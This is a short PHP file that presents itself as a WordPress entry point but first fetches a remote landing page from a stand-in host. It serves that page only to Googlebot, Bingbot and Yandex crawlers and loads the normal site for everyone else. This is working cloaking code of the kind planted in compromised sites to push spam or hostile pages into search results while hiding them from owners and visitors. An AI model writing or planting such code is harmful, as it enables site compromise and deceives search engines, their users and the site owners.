<?php
function grab($url)
{
    $c = curl_init($url);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
    $out = curl_exec($c);
    curl_close($c);
    return $out;
}
$landing = 'https://pages.example.org/seo/landing.html';
$html = grab($landing);
$agent = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
if (preg_match('/googlebot|bingbot|yandex/', $agent)) {
    echo $html;
    exit;
}
require __DIR__ . '/wp-blog-header.php';
